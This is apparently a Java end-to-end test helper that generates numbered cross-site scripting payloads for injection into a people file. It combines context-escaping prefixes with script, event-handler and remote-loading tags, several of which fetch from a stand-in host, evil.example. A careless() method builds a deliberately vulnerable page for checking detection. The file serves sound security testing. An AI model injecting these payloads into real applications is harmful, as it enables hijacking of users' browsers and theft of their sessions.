package org.tourniquet.e2e;

import java.util.ArrayList;
import java.util.List;

/**
 * What somebody would write into a file of people to have it run in a manager's browser: every way out of the place where it
 * stands, times every way to run or to fetch something, each with a number by which it is recognised on a page.
 */
final class HostileWords {
    /** Ways out: of text, of an attribute, of an element that holds text only, of a comment, of a template, of an encoding. */
    private static final List<String> WAYS_OUT = List.of("", "\"", "'", "\">", "'>", "</title>", "</textarea>",
            "</option></select>", "</code></td>", "-->", "]]>", "`", "</script>", "</style>", "</noscript>", "\\\"", "{{", "{|",
            "&#34;&gt;", "%22%3E");
    private static final List<String> DEEDS = List.of("<script>alert(N)</script>", "<img src=x onerror=alert(N)>",
            "<svg onload=alert(N)>", "<svg><script>alert(N)</script></svg>",
            "<iframe srcdoc=\"<script>parent.alert(N)</script>\">", "<iframe src=\"javascript:parent.alert(N)\">",
            "<details open ontoggle=alert(N)>", "<input autofocus onfocus=alert(N)>",
            "<video><source onerror=alert(N)></video>",
            "<img src=//evil.example/N>", "<script src=//evil.example/N></script>",
            "<link rel=stylesheet href=//evil.example/N>", "<style>@import '//evil.example/N'</style>",
            "<object data=//evil.example/N></object>", "<embed src=//evil.example/N>", "<base href=//evil.example/N/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/N\">",
            "<form action=//evil.example/N><button>Sign in</button></form>", "<script>fetch('//evil.example/N')</script>",
            "<div hx-get=//evil.example/N hx-trigger=load>", "<a href=javascript:alert(N)>N</a>",
            " autofocus onfocus=alert(N) onmouseover=alert(N) x=", "<math><mtext><img src=x onerror=alert(N)></mtext></math>",
            "<body onpageshow=alert(N)>", "<marquee onstart=alert(N)>x</marquee>");
    private static final String CLOSED = "</script></iframe></svg></math></object></video></marquee></a></form></details></p>";
    static final int MANY = WAYS_OUT.size() * DEEDS.size();

    private HostileWords() {
    }

    /** One for this field; its number is found as {@code p} and five digits or six. */
    static String of(int field, int which) {
        int number = 10_000 * (field + 1) + which;
        return "p" + number + WAYS_OUT.get(which / DEEDS.size())
                + DEEDS.get(which % DEEDS.size()).replace("N", String.valueOf(number));
    }

    /** A page that does let them in, for one who wants to see whether it would be noticed. */
    static String careless() {
        List<String> lines = new ArrayList<>();
        for (int deed = 0; deed < DEEDS.size(); deed++)
            if (!DEEDS.get(deed).contains("refresh") && !DEEDS.get(deed).contains("<base"))
                lines.add("<p>" + DEEDS.get(deed).replace("N", String.valueOf(deed)) + CLOSED);
        return "<!doctype html><title>Careless</title>" + String.join("\n", lines);
    }
}
